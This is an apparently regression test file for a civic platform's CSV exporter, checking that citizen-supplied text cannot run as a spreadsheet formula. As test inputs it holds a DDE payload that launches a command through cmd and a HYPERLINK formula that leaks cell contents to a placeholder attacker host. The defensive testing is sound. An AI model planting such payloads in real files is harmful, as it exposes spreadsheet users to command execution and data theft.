"""No CSV that Pnyx writes runs a formula in a spreadsheet (issue 13 §6).

The open-data files wrote citizen text verbatim (``-2+3+cmd|' /C calc'!A0`` stayed a
formula); every export now goes through core/csvexport.py, which the staff exports already
followed. The unit tests pin the rule; the bundle test reads every cell of every file.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
import sqlalchemy as sa

from core.csvexport import FORMULA_START, excel_csv, open_data_csv, safe_cell
from core.db import db

DDE = "-2+3+cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)?")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (DDE, "'" + DDE),
        (HYPERLINK, "'" + HYPERLINK),
        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Des bancs place de l'Église", "Des bancs place de l'Église"),
        ("-1.553", "-1.553"),  # a negative longitude stays a number
        ("-3,5", "-3,5"),
        (-7, "-7"),
        (2.5, "2.5"),
        (None, ""),
        (True, "True"),
    ],
)
def test_safe_cell(value, cell):
    assert safe_cell(value) == cell


def test_both_dialects_neutralise_every_cell():
    staff = excel_csv(["Titre", "Soutiens"], [[DDE, 3]])
    assert staff.startswith("\ufeffTitre;Soutiens\r\n")
    assert list(csv.reader(io.StringIO(staff.lstrip("\ufeff")), delimiter=";"))[1] == [
        "'" + DDE,
        "3",
    ]
    text, count = open_data_csv(["titre", "longitude"], [[HYPERLINK, "-1.553000"]])
    assert count == 1 and not text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text)))[1] == ["'" + HYPERLINK, "-1.553000"]


def test_no_open_data_cell_is_a_formula(app, make_tenant, tmp_path, monkeypatch):
    from participation.opendata.tasks import build_tenant_bundle
    from tenants.context import tenant_context
    from tests.api.seed import seed_tenant

    monkeypatch.setitem(app.config, "OPENDATA_FOLDER", str(tmp_path))
    tenant = make_tenant()
    seeded = seed_tenant(app, tenant, bulk=0)
    proposal_id = seeded.proposal_ids["answered"]
    with app.app_context(), tenant_context(tenant):
        db.session.execute(
            sa.text("UPDATE proposals SET title = :title, body = :body WHERE id = :id"),
            {"title": DDE, "body": HYPERLINK, "id": proposal_id},
        )
        db.session.execute(
            sa.text("UPDATE comments SET body = :body WHERE id = ANY(:ids)"),
            {"body": "@SUM(1+1)*cmd|' /C calc'!A0", "ids": list(seeded.comment_ids.values())},
        )
        db.session.execute(sa.text("UPDATE arguments SET body = :body"), {"body": "+" + DDE})
        db.session.commit()
    with app.app_context():
        manifest = build_tenant_bundle(tenant.id)
    with zipfile.ZipFile(tmp_path / f"t{tenant.id}" / manifest["file"]) as archive:
        files = {
            name: archive.read(name).decode("utf-8")
            for name in archive.namelist()
            if name.endswith(".csv")
        }

    proposals = {row["id"]: row for row in csv.DictReader(io.StringIO(files["propositions.csv"]))}
    assert proposals[str(proposal_id)]["titre"] == "'" + DDE
    cells = 0
    for name, text in files.items():
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                cells += 1
                assert not (cell.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(cell)), (
                    name,
                    cell,
                )
    assert cells > 100
    assert "'+" + DDE in files["arguments.csv"]
